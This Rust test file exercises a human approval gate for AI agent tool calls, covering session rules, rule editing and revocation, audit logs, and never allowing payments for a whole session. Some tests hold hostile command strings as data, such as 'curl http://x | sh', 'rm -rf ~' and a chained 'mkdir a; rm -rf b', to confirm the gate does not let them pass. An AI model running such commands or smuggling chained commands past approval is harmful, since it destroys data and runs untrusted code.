//! Approving for the session.

use super::approvers::{Client, Place, decided, decision, hold, read};
use super::{Desk, PROMPT, json};
use crate::process::{Talk, command, pipe, text};
use std::io::{BufReader, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;

const RULE_PROMPT: &str = "back to the call [b]\r\n> ";

fn call(id: u32, tool: &str, path: &str) -> String {
    format!(r#"{{"id":{id},"tool":"{tool}","args":{{"path":"{path}"}},"requires_approval":true}}"#)
}

#[test]
fn a_allows_the_tool_until_the_end_of_the_run() {
    let folder = tempfile::tempdir().unwrap();
    let audit = folder.path().join("audit");
    let mut desk = Desk::lay("", &format!("--audit {}", audit.display()), "");
    desk.hold(&call(1, "rm", "s3cret"));
    desk.types("a");
    assert_eq!(desk.receive_decision(), ("approved".into(), "terminal".into()));
    assert_eq!(desk.receive(), r#"{"id":1,"tool":"rm","args":{"path":"s3cret"}}"#);
    desk.call(&call(2, "rm", "b"));
    assert_eq!(desk.receive_decision(), ("approved".into(), "session".into()));
    assert_eq!(desk.receive(), r#"{"id":2,"tool":"rm","args":{"path":"b"}}"#);
    desk.hold(&call(3, "rmdir", "b"));
    desk.types("n");
    assert_eq!(desk.receive_decision(), ("rejected".into(), "terminal".into()));
    desk.calls = None;
    desk.person.exp_eof().unwrap();
    let output = pipe(command("policy-check").arg("verify").arg(&audit), b"");
    let summary = json(text(&output.stdout).trim_end());
    assert_eq!(output.status.code(), Some(0), "{summary}");
    assert_eq!(
        (&summary["asked"], &summary["approved"], &summary["passed"]),
        (&2.into(), &2.into(), &2.into()),
        "{summary}"
    );
    let written = crate::schemas::written(&audit);
    assert!(written.contains(r#""event":"allowed","rule_id":"session-1""#) && !written.contains("s3cret"), "{written}");
}

#[test]
fn a_rule_is_shown_and_edited_before_it_takes_effect() {
    let folder = tempfile::tempdir().unwrap();
    let editor = folder.path().join("editor");
    std::fs::write(&editor, "#!/bin/sh\nsed -i 's/a.txt/*.txt/' \"$1\"\n").unwrap();
    std::fs::set_permissions(&editor, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut desk = Desk::lay(&format!("EDITOR={} ", editor.display()), "", "");
    desk.hold(&call(1, "rm", "a.txt"));
    desk.types("A");
    let shown = desk.person.exp_string(RULE_PROMPT).unwrap();
    assert!(shown.contains("  | tool = \"rm\"\r\n  | arguments = { \".path\" = \"a.txt\" }"), "{shown}");
    desk.types("b");
    assert!(desk.question().contains("may this call pass?"));
    desk.types("A");
    desk.person.exp_string(RULE_PROMPT).unwrap();
    desk.types("yep");
    desk.person.exp_string(RULE_PROMPT).unwrap();
    desk.types("e");
    let shown = desk.person.exp_string(RULE_PROMPT).unwrap();
    assert!(shown.contains("\".path\" = \"*.txt\""), "{shown}");
    desk.types("y");
    assert_eq!(desk.receive_decision(), ("approved".into(), "terminal".into()));
    desk.receive();
    desk.call(&call(2, "rm", "b.txt"));
    assert_eq!(desk.receive_decision(), ("approved".into(), "session".into()));
    desk.receive();
    desk.hold(&call(3, "rm", "b.rs"));
    desk.types("n");
    desk.receive_decision();
}

#[test]
fn a_value_with_a_wildcard_gives_no_narrower_rule() {
    let mut desk = Desk::lay("", "", "");
    for (id, path) in [(1, "*"), (2, "/tmp/?")] {
        desk.hold(&call(id, "rm", path));
        desk.types("A");
        let said = desk.question();
        assert!(said.contains("this call has no narrower rule") && !said.contains("the rule:"), "{said}");
        desk.types("n");
        assert_eq!(desk.receive_decision(), ("rejected".into(), "terminal".into()));
        desk.receive();
    }
}

#[test]
fn no_payment_is_allowed_for_the_session() {
    let client = Client::listen();
    let mut gate = client.gate(&[]);
    let pay = r#"{"id":1,"tool":"rm","requires_approval":true,"policy":{"verdict":"confirm","rule":"r","reason":"","kind":"pay"}}"#;
    hold(&mut gate, pay);
    let (mut from, mut to) = client.accept();
    let asked = read(&mut from);
    assert_eq!(asked["rule_offers"], serde_json::Value::Null);
    let nonce = &asked["nonce"];
    for rule in ["", r#","rule":"tool = \"rm\"""#] {
        let answer = format!(
            "{{\"type\":\"hitl_response\",\"call_id\":1,\"nonce\":{nonce},\"action\":\"approve\",\"scope\":\"session\"{rule}}}\n"
        );
        to.write_all(answer.as_bytes()).unwrap();
        let refused = read(&mut from);
        assert!(refused["content"].as_str().unwrap().contains("cannot be allowed for the session"), "{refused}");
    }
    let answer = format!("{{\"type\":\"hitl_response\",\"call_id\":1,\"nonce\":{nonce},\"action\":\"approve\"}}\n");
    to.write_all(answer.as_bytes()).unwrap();
    assert_eq!(decision(&mut gate), decided("approved", "approver"));
    gate.receive();
    // Nor does a rule that was added for another call allow it.
    hold(&mut gate, &call(2, "rm", "a"));
    read(&mut from);
    let asked = read(&mut from);
    let answer = format!(
        "{{\"type\":\"hitl_response\",\"call_id\":2,\"nonce\":{},\"action\":\"approve\",\"scope\":\"session\"}}\n",
        asked["nonce"]
    );
    to.write_all(answer.as_bytes()).unwrap();
    assert_eq!(decision(&mut gate), decided("approved", "approver"));
    gate.receive();
    hold(&mut gate, pay);
}

#[test]
fn a_call_with_a_payment_in_any_part_passes_by_no_rule() {
    let client = Client::listen();
    let mut gate = client.gate(&[]);
    let held = |id: u32, tool: &str, arguments: &str| {
        format!(r#"{{"id":{id},"tool":"{tool}","args":{arguments},"requires_approval":true}}"#)
    };
    hold(&mut gate, &held(1, "batch", r#"{"calls":[{"tool":"delete_x"}]}"#));
    let (mut from, mut to) = client.accept();
    let mut asked = read(&mut from);
    assert_eq!(asked["rule_offers"][0], "tool = \"batch\"");
    for (id, tool, arguments) in [
        (2, "batch", r#"{"calls":[{"tool":"delete_x"},{"tool":"pay_invoice","args":{"amount":9000}}]}"#),
        (3, "batch", r#"{"calls":[{"tool":"create_payment"}]}"#),
        (4, "delete_x", r#"{"action":"transfer"}"#),
        (5, "delete_x", r#"{"action":"create_payment"}"#),
        (6, "send_payment", "{}"),
        (7, "confirm_payment", "{}"),
        (8, "submit_order", "{}"),
        (9, "delete_and_pay", "{}"),
        (10, "mcp__shop__createInvoices", "{}"),
    ] {
        let answer = format!(
            "{{\"type\":\"hitl_response\",\"call_id\":{},\"nonce\":{},\"action\":\"approve\"{}}}\n",
            id - 1,
            asked["nonce"],
            if id == 2 { r#","scope":"session""# } else { "" }
        );
        to.write_all(answer.as_bytes()).unwrap();
        assert_eq!(decision(&mut gate), decided("approved", "approver"), "{id}");
        gate.receive();
        hold(&mut gate, &held(id, tool, arguments));
        asked = loop {
            let record = read(&mut from);
            if record["call_id"] == id && record["status"] == "waiting_human" {
                break record;
            }
        };
        assert_eq!(asked["rule_offers"], serde_json::Value::Null, "{tool} {arguments}");
    }
}

#[test]
fn an_approver_lists_and_revokes_session_rules() {
    let place = Place::new();
    let mut gate = Talk::start(&mut place.gate(&["--approver"]));
    let mut person = place.attach();
    person.send_line("rules").unwrap();
    person.exp_string("no rule is in force").unwrap();
    hold(&mut gate, &call(1, "rm", "a"));
    person.exp_string("for this session [a]").unwrap();
    person.exp_string(PROMPT).unwrap();
    person.send_line("a").unwrap();
    assert_eq!(decision(&mut gate), decided("approved", "approver"));
    gate.receive();
    person.exp_string("waiting for questions").unwrap();
    gate.say(&call(2, "rm", "b"));
    assert_eq!(decision(&mut gate), decided("approved", "session"));
    gate.receive();
    // Another window shows it, too, though no question is open.
    let mut other = place.attach();
    crate::process::eventually("the rule is listed", || {
        other.send_line("rules").unwrap();
        other.exp_regex("no rule is in force|session-1: tool = \"rm\"").unwrap().1.starts_with("session-1")
    });
    other.send_line("revoke 7").unwrap();
    other.exp_string("no rule has the number 7").unwrap();
    other.send_line("revoke 1").unwrap();
    other.exp_string("revoked: session-1").unwrap();
    crate::process::eventually("it is revoked here, too", || {
        person.send_line("rules").unwrap();
        person.exp_regex("no rule is in force|session-1: tool").unwrap().1.starts_with("no")
    });
    hold(&mut gate, &call(3, "rm", "c"));
    person.exp_string(PROMPT).unwrap();
}

#[test]
fn a_rule_is_written_to_the_rules_file_only_on_request() {
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules.toml");
    std::fs::write(&rules, "[[rule]]\nid = \"remembered-1\"\nverdict = \"deny\"\ntool = \"x\"").unwrap();
    let mut desk = Desk::lay("", &format!("--remember {}", rules.display()), "");
    desk.hold(&call(1, "rm", "a"));
    desk.types("A");
    let shown = desk.person.exp_string(RULE_PROMPT).unwrap();
    assert!(shown.contains(rules.to_str().unwrap()) && shown.contains("write it to the rules file [w]"), "{shown}");
    desk.types("w");
    assert_eq!(desk.receive_decision(), ("approved".into(), "terminal".into()));
    desk.receive();
    desk.hold(&call(2, "mv", "a"));
    desk.types("a");
    desk.receive_decision();
    desk.receive();
    let written = std::fs::read_to_string(&rules).unwrap();
    assert_eq!(written.matches("[[rule]]").count(), 2, "{written}");
    let mut check = command("policy-check");
    let judged =
        pipe(check.args(["--rules", rules.to_str().unwrap()]), b"{\"tool\":\"rm\",\"args\":{\"path\":\"a\"}}\n");
    assert_eq!(json(text(&judged.stdout).trim_end())["policy"]["rule"], "remembered-2", "{}", text(&judged.stderr));
    // Nor does it allow a payment in a later run.
    let mut check = command("policy-check");
    let paying = b"{\"tool\":\"rm\",\"args\":{\"path\":\"a\",\"then\":{\"tool\":\"pay\"}}}\n";
    let judged = pipe(check.args(["--rules", rules.to_str().unwrap()]), paying);
    let policy = &json(text(&judged.stdout).lines().next().unwrap())["policy"];
    assert_eq!((&policy["verdict"], &policy["kind"]), (&"confirm".into(), &"delete".into()), "{policy}");
}

#[test]
fn the_rules_file_to_write_to_is_checked_at_the_start() {
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules.toml");
    std::fs::write(&rules, "[[rule]]\nid = 7\n").unwrap();
    for path in [rules.to_str().unwrap(), "/dev/zero", folder.path().to_str().unwrap()] {
        let output = pipe(command("hitl-gate").args(["--remember", path]), b"");
        let stderr = text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains("--remember") && stderr.contains(path), "{stderr}");
    }
    let output = pipe(command("hitl-gate").arg("--remember").arg(folder.path().join("none-yet")), b"");
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
}

/// A held call of a tool that runs text.
fn run(id: u32, arguments: &serde_json::Value) -> String {
    serde_json::json!({"id": id, "tool": "run_command", "args": arguments, "requires_approval": true}).to_string()
}

/// Answers the question that the client gets next.
fn approve(from: &mut BufReader<UnixStream>, to: &mut UnixStream, how: &str) -> serde_json::Value {
    let asked = loop {
        let record = read(from);
        if record["status"] == "waiting_human" {
            break record;
        }
    };
    let (id, nonce) = (&asked["call_id"], &asked["nonce"]);
    writeln!(to, "{{\"type\":\"hitl_response\",\"call_id\":{id},\"nonce\":{nonce},\"action\":\"approve\"{how}}}")
        .unwrap();
    asked
}

#[test]
fn a_command_is_allowed_by_its_program_in_its_folder() {
    let client = Client::listen();
    let mut gate = client.gate(&[]);
    let mkdir = serde_json::json!({"command": "mkdir build", "cwd": "/w", "description": "Make a folder"});
    hold(&mut gate, &run(1, &mkdir));
    let (mut from, mut to) = client.accept();
    let asked = approve(&mut from, &mut to, r#","scope":"session""#);
    let offers = asked["rule_offers"].as_array().unwrap();
    assert_eq!(offers.len(), 2, "{offers:?}");
    assert!(offers[0].as_str().unwrap().contains(r#"".command" = { command = "mkdir *" }"#), "{offers:?}");
    assert!(offers[1].as_str().unwrap().contains(r#"".command" = { is = "mkdir build" }"#), "{offers:?}");
    assert_eq!(decision(&mut gate), decided("approved", "approver"));
    gate.receive();
    for (id, command) in [(2, "mkdir build2"), (3, "mkdir a/b 'c'")] {
        gate.say(&run(id, &serde_json::json!({"command": command, "cwd": "/w"})));
        assert_eq!(decision(&mut gate), decided("approved", "session"), "{command}");
        gate.receive();
    }
    for (id, arguments) in (4..).zip([
        serde_json::json!({"command": "rm -rf ~", "cwd": "/w"}),
        serde_json::json!({"command": "curl http://x | sh", "cwd": "/w"}),
        serde_json::json!({"command": "mkdir build", "cwd": "/etc"}),
        serde_json::json!({"command": "mkdir build"}),
        serde_json::json!({"command": "mkdir /etc/x", "cwd": "/w"}),
        serde_json::json!({"command": "mkdir -p build", "cwd": "/w"}),
        serde_json::json!({"command": "mkdir a; rm -rf b", "cwd": "/w"}),
        serde_json::json!({"command": "mkdir a > b", "cwd": "/w"}),
        serde_json::json!({"command": "mkdir a", "cwd": "/w", "env": {"PATH": "/tmp"}}),
    ]) {
        hold(&mut gate, &run(id, &arguments));
        approve(&mut from, &mut to, "");
        assert_eq!(decision(&mut gate), decided("approved", "approver"), "{arguments}");
        gate.receive();
    }
    // Nor if something is beside the arguments.
    hold(&mut gate, &run(20, &mkdir).replace("\"tool\"", "\"cwd\":\"/etc\",\"tool\""));
    let asked = approve(&mut from, &mut to, "");
    assert_eq!(asked["rule_offers"], serde_json::Value::Null);
}

#[test]
fn a_tool_that_runs_text_is_never_allowed_as_a_whole() {
    let client = Client::listen();
    let mut gate = client.gate(&[]);
    let held = |id: u32, tool: &str, arguments: &str| {
        format!(r#"{{"id":{id},"tool":"{tool}","args":{arguments},"requires_approval":true}}"#)
    };
    let mut streams = None;
    for (id, (tool, arguments)) in (1..).zip([
        ("run_command", r#"{"command":"git push origin main"}"#),
        ("run_command", r#"{"command":"ls"}"#),
        ("run_command", r#"{"command":["mkdir","build"]}"#),
        ("bash", r#"{"command":"rm *.o"}"#),
        ("execute_sql", r#"{"sql":"DELETE FROM t WHERE id = 1"}"#),
        ("browser_evaluate", r#"{"function":"() => document.title"}"#),
        ("python", r#"{"code":"print(1)"}"#),
        ("frobnicate", r#"{"command":"make -j"}"#),
        ("kubectl", r#"{"args":["get","pods"]}"#),
        ("batch", r#"{"calls":[{"tool":"bash","args":{"command":"make a"}}]}"#),
        ("graph_api", r#"{"query":"mutation { archive(id: 1) }"}"#),
        ("write_query", r#"{"query":"INSERT INTO t VALUES (1)"}"#),
        ("write_to_terminal", r#"{"text":"make a"}"#),
        ("interact_with_process", r#"{"pid":1,"input":"a"}"#),
        ("call_tool", r#"{"name":"frob"}"#),
        ("PowerShell", r#"{"command":"git commit -m 'a'"}"#),
        ("bash", r#"{"command":"prettier --check a.js"}"#),
    ]) {
        hold(&mut gate, &held(id, tool, arguments));
        let (from, to) = streams.get_or_insert_with(|| client.accept());
        let asked = approve(from, to, &format!(r#","scope":"session","rule":"tool = \"{tool}\"""#));
        let offers = asked["rule_offers"].as_array().unwrap();
        assert_eq!(offers.len(), 1, "{offers:?}");
        let offer = offers[0].as_str().unwrap();
        assert!(offer.contains("is = ") && offer.contains("no_other_arguments = true"), "{offer}");
        let refused = read(from);
        assert!(refused["content"].as_str().unwrap().contains("the call runs text"), "{tool}: {refused}");
        let nonce = &asked["nonce"];
        writeln!(
            to,
            r#"{{"type":"hitl_response","call_id":{id},"nonce":{nonce},"action":"approve","scope":"session"}}"#
        )
        .unwrap();
        assert_eq!(decision(&mut gate), decided("approved", "approver"), "{tool} {arguments}");
        gate.receive();
        // The exact text passes again.
        gate.say(&held(id + 100, tool, arguments));
        assert_eq!(decision(&mut gate), decided("approved", "session"), "{tool} {arguments}");
        gate.receive();
    }
}

#[test]
fn a_rule_for_a_tool_does_not_allow_its_calls_that_run_text() {
    let client = Client::listen();
    let mut gate = client.gate(&[]);
    hold(&mut gate, r#"{"id":1,"tool":"batch","args":{"calls":[{"tool":"delete_x"}]},"requires_approval":true}"#);
    let (mut from, mut to) = client.accept();
    approve(&mut from, &mut to, r#","scope":"session""#);
    assert_eq!(decision(&mut gate), decided("approved", "approver"));
    gate.receive();
    let line = r#"{"id":2,"tool":"batch","args":{"calls":[{"tool":"bash","args":{"command":"rm x"}}]},"requires_approval":true}"#;
    hold(&mut gate, line);
}

#[test]
fn the_screen_says_what_is_allowed_for_the_session() {
    let mut desk = Desk::lay("", "", "");
    desk.hold(&run(1, &serde_json::json!({"command": "git add a.rs"})));
    desk.types("A");
    let shown = desk.person.exp_string(RULE_PROMPT).unwrap();
    assert!(shown.contains("no_other_arguments = true"), "{shown}");
    desk.types("b");
    assert!(desk.question().contains("for this session: `git add *` in this folder"));
    desk.types("a");
    assert_eq!(desk.receive_decision(), ("approved".into(), "terminal".into()));
    desk.receive();
    desk.call(&run(2, &serde_json::json!({"command": "git add b.rs"})));
    assert_eq!(desk.receive_decision(), ("approved".into(), "session".into()));
}
